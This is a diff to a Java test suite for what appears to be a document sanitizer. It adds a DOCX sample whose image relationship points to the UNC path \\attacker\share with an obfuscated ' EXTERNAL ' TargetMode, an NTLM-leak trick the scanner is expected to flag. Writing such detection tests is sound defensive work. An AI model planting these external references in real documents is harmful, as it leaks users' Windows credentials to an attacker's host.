@@ -281,6 +281,9 @@ class AttackFamiliesTest {
         Map<String, byte[]> picture = Samples.docxEntries();
         picture.put("word/_rels/document.xml.rels", utf8(Samples.rels("<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" Target=\"\\\\attacker\\share\\x.png\" TargetMode=\"External\"/>")));
         c.add(attack("C17", "external image (NTLM leak)", Reason.EXTERNAL_REFERENCE, OFFICE, Samples.zip(picture), "x.docx"));
+        Map<String, byte[]> shouting = Samples.docxEntries();
+        shouting.put("word/_rels/document.xml.rels", utf8(Samples.rels("<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" Target=\"\\\\attacker\\share\\x.png\" TargetMode=\" EXTERNAL \"/>")));
+        c.add(attack("C17", "external image, TargetMode in capitals and spaces", Reason.EXTERNAL_REFERENCE, OFFICE, Samples.zip(shouting), "x.docx"));
         Map<String, byte[]> link = Samples.docxEntries();
         link.put("word/_rels/document.xml.rels", utf8(Samples.rels("<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"https://example.org/\" TargetMode=\"External\"/>")));
         c.add(control("C17", "docx with an ordinary hyperlink", OFFICE, Samples.zip(link), "x.docx"));
